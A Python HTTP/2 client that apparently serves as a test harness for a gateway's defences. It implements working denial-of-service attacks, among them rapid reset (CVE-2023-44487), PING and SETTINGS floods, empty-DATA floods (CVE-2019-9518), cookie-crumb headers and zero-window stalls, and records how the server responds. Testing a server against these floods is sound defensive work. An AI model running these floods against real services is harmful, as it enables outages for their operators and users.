"""An HTTP/2 client that floods a gateway the way attackers do, built on the
`h2` package (hyper's Python sibling, a sans-IO HTTP/2 state machine).

Usage: h2_flood.py MODE HOST PORT CA CERT KEY COUNT

rapid-reset: opens COUNT streams, each HEADERS immediately followed by
RST_STREAM(CANCEL) (CVE-2023-44487), all in one write, then reads until
the server ends the connection. Prints one JSON line: how the connection
ended (`goaway_error`: the GOAWAY error code, or null; `closed`: the
server closed the TCP connection) and how many streams were sent.

ping-flood, settings-flood: COUNT PING frames (or empty SETTINGS frames),
each demanding an answer, in one write; reads until the server ends the
connection or has answered them all. Prints `goaway_error` and
`answered` (the acknowledgements received).

empty-data: opens one stream (a POST), then sends COUNT empty DATA frames
that do not end it (CVE-2019-9518); then as rapid-reset.

cookie-crumbs: one GET carrying COUNT `cookie` fields (crumbs, RFC 9113
§8.2.3). Prints `status` (the response's).

hold: one GET /bytes/3, answered; prints `ready` on its own line, then
holds the connection (up to COUNT seconds) until the server sends GOAWAY
or closes it. Prints the same JSON as rapid-reset.

zero-window: announces a stream window of 0 and asks for COUNT bytes, so
the server can send the response's HEADERS but no DATA, then waits (up
to 20 s) for the server to give up on the stream. Prints one JSON line:
`status` (the response's), `data` (bytes received), `reset_error` (the
RST_STREAM error code, or null) and `seconds` until then.
"""

import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.errors
import h2.exceptions
import h2.settings


def connect(host, port, ca, cert, key):
    ctx = ssl.create_default_context(cafile=ca)
    ctx.load_cert_chain(cert, key)
    ctx.set_alpn_protocols(["h2"])
    ctx.check_hostname = False
    raw = socket.create_connection((host, int(port)), timeout=10)
    tls = ctx.wrap_socket(raw, server_hostname="localhost")
    if tls.selected_alpn_protocol() != "h2":
        raise SystemExit("the server did not select h2")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    tls.sendall(conn.data_to_send())
    return tls, conn


def raw_goaway(data, default):
    """The error code of the first GOAWAY frame in `data` (whole frames)."""
    at = 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at : at + 3], "big")
        if data[at + 3] == 0x7 and at + 9 + 8 <= len(data):
            return int.from_bytes(data[at + 13 : at + 17], "big")
        at += 9 + length
    return default


def read_until_end(tls, conn):
    """Reads until GOAWAY or close; returns (goaway error code or None, closed)."""
    goaway = None
    while True:
        try:
            data = tls.recv(65536)
        except (ConnectionResetError, ssl.SSLError, socket.timeout):
            return goaway, True
        if not data:
            return goaway, True
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            # The `h2` package closes on the first GOAWAY and then refuses
            # the PING a graceful shutdown sends after it, losing the
            # event: read the GOAWAY from the bytes.
            return raw_goaway(data, goaway), True
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                goaway = int(event.error_code)
        out = conn.data_to_send()
        if out:
            try:
                tls.sendall(out)
            except OSError:
                return goaway, True


def rapid_reset(host, port, ca, cert, key, count):
    tls, conn = connect(host, port, ca, cert, key)
    headers = [
        (":method", "GET"),
        (":path", "/bytes/10"),
        (":scheme", "https"),
        (":authority", f"{host}:{port}"),
    ]
    sent = 0
    for i in range(count):
        stream_id = 1 + 2 * i
        conn.send_headers(stream_id, headers, end_stream=True)
        conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
        sent += 1
    tls.sendall(conn.data_to_send())
    goaway, closed = read_until_end(tls, conn)
    return {"goaway_error": goaway, "closed": closed, "sent": sent}


def control_flood(kind):
    def flood(host, port, ca, cert, key, count):
        tls, conn = connect(host, port, ca, cert, key)
        for i in range(count):
            if kind == "ping":
                conn.ping(i.to_bytes(8, "big"))
            else:
                conn.update_settings({})
        tls.sendall(conn.data_to_send())
        # Until the server ends the connection, or has answered them all.
        acks, goaway = 0, None
        while acks < count:
            try:
                data = tls.recv(65536)
            except (ConnectionResetError, ssl.SSLError, socket.timeout):
                break
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, (h2.events.PingAckReceived, h2.events.SettingsAcknowledged)):
                    acks += 1
                elif isinstance(event, h2.events.ConnectionTerminated):
                    goaway = int(event.error_code)
            if goaway is not None:
                break
            out = conn.data_to_send()
            if out:
                tls.sendall(out)
        return {"goaway_error": goaway, "answered": acks, "sent": count}

    return flood


def empty_data(host, port, ca, cert, key, count):
    tls, conn = connect(host, port, ca, cert, key)
    conn.send_headers(
        1,
        [
            (":method", "POST"),
            (":path", "/echo"),
            (":scheme", "https"),
            (":authority", f"{host}:{port}"),
        ],
        end_stream=False,
    )
    for _ in range(count):
        conn.send_data(1, b"", end_stream=False)
    tls.sendall(conn.data_to_send())
    goaway, closed = read_until_end(tls, conn)
    return {"goaway_error": goaway, "closed": closed, "sent": count}


def cookie_crumbs(host, port, ca, cert, key, count):
    tls, conn = connect(host, port, ca, cert, key)
    headers = [
        (":method", "GET"),
        (":path", "/bytes/3"),
        (":scheme", "https"),
        (":authority", f"{host}:{port}"),
    ] + [("cookie", f"c{i}=1") for i in range(count)]
    conn.send_headers(1, headers, end_stream=True)
    tls.sendall(conn.data_to_send())
    tls.settimeout(10)
    while True:
        data = tls.recv(65536)
        if not data:
            return {"status": None}
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                headers = dict(event.headers)
                return {
                    "status": int(headers[b":status"]),
                    "error": (headers.get(b"x-meshgate-error") or b"").decode(),
                }
        pending = conn.data_to_send()
        if pending:
            tls.sendall(pending)


def hold(host, port, ca, cert, key, count):
    tls, conn = connect(host, port, ca, cert, key)
    conn.send_headers(
        1,
        [
            (":method", "GET"),
            (":path", "/bytes/3"),
            (":scheme", "https"),
            (":authority", f"{host}:{port}"),
        ],
        end_stream=True,
    )
    tls.sendall(conn.data_to_send())
    tls.settimeout(count)
    while True:
        data = tls.recv(65536)
        if not data:
            return {"goaway_error": None, "closed": True, "answered": False}
        done = any(isinstance(e, h2.events.StreamEnded) for e in conn.receive_data(data))
        pending = conn.data_to_send()
        if pending:
            tls.sendall(pending)
        if done:
            break
    print("ready", flush=True)
    goaway, closed = read_until_end(tls, conn)
    return {"goaway_error": goaway, "closed": closed, "answered": True}


def zero_window(host, port, ca, cert, key, count):
    tls, conn = connect(host, port, ca, cert, key)
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    conn.send_headers(
        1,
        [
            (":method", "GET"),
            (":path", f"/bytes/{count}"),
            (":scheme", "https"),
            (":authority", f"{host}:{port}"),
        ],
        end_stream=True,
    )
    tls.sendall(conn.data_to_send())
    started = time.monotonic()
    tls.settimeout(20)
    out = {"status": None, "data": 0, "reset_error": None, "seconds": None}
    while time.monotonic() - started < 20:
        try:
            data = tls.recv(65536)
        except (socket.timeout, OSError):
            break
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                out["status"] = int(dict(event.headers)[b":status"])
            elif isinstance(event, h2.events.DataReceived):
                out["data"] += len(event.data)
            elif isinstance(event, h2.events.StreamReset) and event.stream_id == 1:
                out["reset_error"] = int(event.error_code)
                out["seconds"] = round(time.monotonic() - started, 2)
                return out
        pending = conn.data_to_send()
        if pending:
            tls.sendall(pending)
    return out


def main():
    mode, host, port, ca, cert, key, count = sys.argv[1:8]
    modes = {
        "rapid-reset": rapid_reset,
        "zero-window": zero_window,
        "ping-flood": control_flood("ping"),
        "settings-flood": control_flood("settings"),
        "empty-data": empty_data,
        "cookie-crumbs": cookie_crumbs,
        "hold": hold,
    }
    if mode not in modes:
        raise SystemExit(f"unknown mode {mode}")
    print(json.dumps(modes[mode](host, port, ca, cert, key, int(count))))


if __name__ == "__main__":
    main()
